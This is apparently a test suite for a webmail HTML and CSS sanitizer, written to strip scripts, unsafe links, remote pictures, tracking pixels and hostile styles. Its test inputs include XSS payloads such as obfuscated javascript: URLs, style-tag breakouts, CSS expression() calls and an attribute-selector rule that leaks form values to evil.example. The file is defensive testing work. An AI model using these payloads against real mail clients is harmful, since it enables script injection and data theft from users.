import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { ELEMENT_DEPTH, HOSTILE_DEPTH, isNestedHostilely, sanitizeMail, type SafeHtml } from './sanitize.ts';
import { safeDeclarations, safeStyleSheet, STYLE_CHARACTERS, STYLE_SHEET_CHARACTERS, type StyleSink } from './style.ts';

const OWN = new Map([['logo@example.test', '/jmap/download/a1/B1_2/logo.png?type=image%2Fpng']]);
const shown = (html: string, remote = false): SafeHtml => sanitizeMail(html, { remote, own: OWN });
const htmlOf = (html: string, remote = false): string => shown(html, remote).html;

describe('HTML of mail', () => {
  test('tables, fonts and inline styles stay as they were', () => {
    const mail =
      '<table width="600" cellpadding="0" bgcolor="#ffffff"><tr><td align="center" style="padding:10px 0;font-family:\'Segoe UI\',Arial">' +
      '<font color="#333333" face="Arial" size="2">Hello</font></td></tr></table>';
    assert.equal(htmlOf(mail), mail);
  });

  test('what runs, submits, refreshes or embeds is gone with its content; other unknown elements leave theirs', () => {
    const mail =
      '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">' +
      '<script>a()</script><iframe src="x">b</iframe><object data="c"></object><embed src="d"><svg><text>e</text></svg>' +
      '<math><mi>f</mi></math><form action="https://evil.example/"><input name="pin"><button onclick="g()">Send</button></form>' +
      '<blink>kept</blink>';
    assert.equal(htmlOf(mail), 'Sendkept');
  });

  test('no handler, no foreign attribute, no attribute of ours made by a sender', () => {
    const mail =
      '<p onclick="a()" OnError="b()" data-mail-fold="quote" data-x="1" contenteditable tabindex="1" style="color:red" accesskey="x">t</p>';
    assert.equal(htmlOf(mail), '<p style="color:red">t</p>');
  });

  test('ids are out of the way of those of the app, fragments lead to them', () => {
    assert.equal(
      htmlOf('<a name="top"></a><a href="#top">up</a><p id="app">x</p>'),
      '<a id="m-top"></a><a href="#m-top">up</a><p id="m-app">x</p>',
    );
  });

  test('the body is an element, with its colours', () => {
    const { html, hasOwnColours } = shown('<html><body bgcolor="#000" text="#fff"><p>x</p></body></html>');
    assert.equal(html, '<div bgcolor="#000" data-mail-body style="color:#fff"><p>x</p></div>');
    assert.ok(hasOwnColours);
  });

  test('elements nest so deep and no deeper; their text stays', () => {
    const deep = ELEMENT_DEPTH + 100;
    const html = htmlOf(`${'<div>'.repeat(deep)}text${'</div>'.repeat(deep)}`);
    assert.equal(html.split('<div>').length - 1, ELEMENT_DEPTH);
    assert.ok(html.includes('text'));
  });

  test('mail that nests to make us slow is told from mail whose end tags are missing', () => {
    assert.ok(isNestedHostilely('<div>'.repeat(HOSTILE_DEPTH + 1)));
    assert.ok(isNestedHostilely('<table><a><td>'.repeat(HOSTILE_DEPTH)));
    assert.ok(!isNestedHostilely('<p>x<br><li>y<tr><td>z'.repeat(HOSTILE_DEPTH * 2)));
    assert.ok(!isNestedHostilely('<div><b>x</b></div>'.repeat(HOSTILE_DEPTH * 2)));
  });

  test('what is never closed is closed', () => {
    assert.equal(htmlOf('<div><b>x'), '<div><b>x</b></div>');
  });

  test('paper and ink of mail that has no colours of its own may be changed', () => {
    const plain =
      '<p style="color:black;background:white">x <a style="color:#0563C1" href="https://e.example/">y</a></p>';
    assert.equal(shown(plain).hasOwnColours, false);
    for (const own of [
      '<p style="color:#123">x</p>',
      '<td bgcolor="#eee">x</td>',
      '<font color="red">x</font>',
      '<style>p{background:#eee url(x)}</style>',
    ])
      assert.equal(shown(own).hasOwnColours, true, own);
  });
});

describe('links in mail', () => {
  test('they open in a window of their own that knows nothing of this one', () => {
    assert.equal(
      htmlOf('<a href="https://e.example/x" target="_top" rel="opener">x</a>'),
      '<a href="https://e.example/x" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
  });

  test('to the web, to an address, to a telephone, and to nothing else', () => {
    for (const href of ['http://e.example/', 'mailto:ann@example.test', 'tel:+3531'])
      assert.match(htmlOf(`<a href="${href}">x</a>`), new RegExp(`href="${href.replace('+', '\\+')}"`));
    for (const href of [
      'javascript:alert(1)',
      ' java\tscript:alert(1)',
      '&#x6A;avascript:alert(1)',
      'JaVaScRiPt&colon;alert(1)',
      '\u0001javascript:alert(1)',
      'data:text/html,x',
      'vbscript:x',
      'file:///etc/passwd',
      'blob:https://e.example/x',
      '/jmap/session',
      '//evil.example/',
      'x.html',
      '#a b',
      'https://',
    ])
      assert.equal(htmlOf(`<a href="${href}">x</a>`), '<a>x</a>', href);
  });

  test('a password in an address does not pretend to be its host', () => {
    assert.match(htmlOf('<a href="https://bank.example@evil.example/">x</a>'), /href="https:\/\/evil\.example\/"/);
  });

  test('text that shows another host than the link has is marked', () => {
    for (const text of [
      'https://bank.example/login',
      'www.bank.example',
      'bank.example',
      '<b>bank</b>.example',
      'ba\u200bnk.example',
    ]) {
      const { html, misleadingLinks } = shown(`<a href="https://evil.example/">${text}</a>`);
      assert.ok(html.includes('data-mail-shows="bank.example"'), text);
      assert.equal(misleadingLinks, 1);
    }
    for (const [href, text] of [
      ['https://bank.example/x', 'https://www.bank.example'],
      ['https://login.bank.example/', 'bank.example'],
      ['https://evil.example/', 'Click here'],
      ['https://cdn.example/report', 'report.pdf'],
      ['https://evil.example/', 'ann@bank.example'],
    ] as const)
      assert.equal(shown(`<a href="${href}">${text}</a>`).misleadingLinks, 0, text);
  });
});

describe('pictures in mail', () => {
  test('those on the web are let in only when asked for, and then by https', () => {
    const mail = '<img src="http://p.example/a.png" alt="A" srcset="https://p.example/b.png 2x" width="20">';
    const blocked = shown(mail);
    assert.equal(blocked.html, '<img alt="A" width="20" data-mail-blocked />');
    assert.equal(blocked.remotePictures, 1);
    assert.equal(htmlOf(mail, true), '<img alt="A" width="20" src="https://p.example/a.png" />');
  });

  test('those of the message come from the message', () => {
    const { html, usedPictures, remotePictures } = shown('<img src="cid:logo%40example.test"><img src="CID:missing">');
    assert.equal(html, '<img src="/jmap/download/a1/B1_2/logo.png?type=image%2Fpng" /><img />');
    assert.deepEqual([...usedPictures], ['logo@example.test']);
    assert.equal(remotePictures, 0);
  });

  test('no other address of the server can be asked for', () => {
    for (const src of ['/jmap/session', 'session', '\\\\evil.example\\x', '/frame/text'])
      assert.ok(!/src=|background/.test(htmlOf(`<img src="${src}"><table background="${src}"></table>`)), src);
  });

  test('pixels that count readers are never let in', () => {
    for (const how of [
      'width="1" height="1"',
      'width=0 height=0',
      'style="display:none"',
      'style="width:1px;height:1px"',
    ]) {
      const { html, trackingPixels, remotePictures } = shown(`<img src="https://t.example/x.gif" ${how}>`, true);
      assert.ok(!html.includes('t.example'), how);
      assert.deepEqual([trackingPixels, remotePictures], [1, 0], how);
    }
  });

  test('a data URI is a picture only when it is one', () => {
    assert.match(htmlOf('<img src="data:image/png;base64,iVBORw0KGgo=">'), /src="data:image\/png/);
    for (const src of ['data:image/svg+xml;base64,PHN2Zz4=', 'data:text/html,x', 'data:image/png,<script>'])
      assert.ok(!htmlOf(`<img src="${src}">`).includes('src='), src);
  });

  test('backgrounds follow the same rules', () => {
    const mail = `<td background="https://p.example/a.png" style="background:red url('https://p.example/b.png') no-repeat">x</td>`;
    assert.equal(shown(mail).remotePictures, 2);
    assert.ok(!htmlOf(mail).includes('p.example'));
    const allowed = htmlOf(`<table><tr>${mail}</tr></table>`, true);
    assert.ok(allowed.includes('p.example/a.png') && allowed.includes('p.example/b.png'), allowed);
  });
});

const NO_PICTURES: StyleSink = { picture: () => null, ownColour: () => {} };
const declarations = (style: string): string => safeDeclarations(style, NO_PICTURES);

describe('styles of mail', () => {
  test('known properties with plain values stay', () => {
    for (const style of [
      'color:#1a2b3c',
      'font:bold 12px/1.5 "Segoe UI",Arial,sans-serif',
      'margin:0 auto !important',
      'width:calc(100% - 20px)',
      'border-top:solid #E1E1E1 1.0pt',
      'background-color:rgba(1,2,3,.5)',
    ])
      assert.equal(declarations(style), style);
  });

  test('what moves, covers, fetches, computes or hides in escapes does not', () => {
    for (const style of [
      'position:fixed',
      'position:absolute;top:0',
      'z-index:9',
      'transform:scale(9)',
      'behavior:url(x.htc)',
      '-moz-binding:url(x)',
      'width:expression(alert(1))',
      'width:exp/**/ression(alert(1))',
      'color:\\72 ed',
      'background-image:image-set("x" 1x)',
      'background:-webkit-image-set(url(x) 1x)',
      'list-style-image:url(https://evil.example/x)',
      'content:attr(value)',
      'color:var(--x)',
      'color:red;}</style><script>',
      'font-family:"</style>"',
      'animation:x 1s',
      'cursor:url(x),auto',
      'filter:url(x)',
      'width:attr(data-x)',
      '--x:red',
    ])
      assert.ok(
        !/url|script|position|expression|\\|image-set|attr|var|</.test(declarations(style)),
        `${style} → ${declarations(style)}`,
      );
  });

  test('an address of a picture cannot end its quotes', () => {
    const sink: StyleSink = { picture: (address) => address, ownColour: () => {} };
    assert.equal(
      safeDeclarations(`background:url('https://p.example/a");color:red;b:("')`, sink),
      'background:url("https://p.example/a%22%29;color:red;b:%28%22")',
    );
  });

  test('rules of style sheets stay with plain selectors, others go', () => {
    const sheet = (css: string): string => safeStyleSheet(css, NO_PICTURES);
    assert.equal(sheet('p.MsoNormal, li > b {margin:0cm}'), 'p.MsoNormal, li > b{margin:0cm}');
    assert.equal(sheet('body{margin:0} #x a:hover{color:red}'), '[data-mail-body]{margin:0}\n#m-x a:hover{color:red}');
    assert.equal(
      sheet('@media only screen and (max-width:600px){.c{width:100%!important}}'),
      '@media only screen and (max-width:600px){.c{width:100% !important}}',
    );
    for (const css of [
      '@import "https://evil.example/x.css";',
      "@import url('https://evil.example/x.css') screen;",
      '@font-face{font-family:x;src:url(https://evil.example/x)}',
      'input[value^="a"]{background:url(https://evil.example/a)}',
      '@supports (display:grid){p{color:red}}',
      '@media (prefers-color-scheme:dark){p{color:white}}',
      ':has(p){color:red}',
      'p:not([x]){color:red}',
      '@namespace x url(y);',
      '@keyframes x{from{left:0}}',
      '</style><script>alert(1)</script>',
      'p{position:fixed',
      '}}}{{{',
    ])
      assert.equal(sheet(css), '', css);
  });

  test('no more of a style is read than its limit', () => {
    assert.equal(declarations(`${' '.repeat(STYLE_CHARACTERS)}color:red`), '');
    assert.equal(safeStyleSheet(`${' '.repeat(STYLE_SHEET_CHARACTERS)}p{color:red}`, NO_PICTURES), '');
  });
});
